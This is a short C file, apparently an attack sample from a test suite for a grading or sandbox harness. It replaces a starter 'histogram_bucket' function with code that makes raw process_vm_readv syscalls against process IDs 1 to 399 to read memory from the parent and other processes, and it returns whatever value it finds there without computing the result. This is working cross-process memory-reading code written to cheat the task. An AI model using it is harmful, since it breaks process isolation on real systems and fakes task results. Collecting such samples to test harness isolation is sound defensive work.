#include "attacks/raw.h"

#define histogram_bucket starter_bucket
#include "starter/histogram.c"
#undef histogram_bucket

/* Reads from its parent, and from who started that, as a debugger would. */
size_t histogram_bucket(uint64_t us)
{
    uint64_t found = 0;
    struct {
        void *at;
        size_t size;
    } here = {&found, sizeof found}, there = {(void *)&us, sizeof us};

    for (long pid = 1; pid < 400; pid++)
        (void)raw(SYS_process_vm_readv, pid, (long)&here, 1, (long)&there);
    return (size_t)found;
}
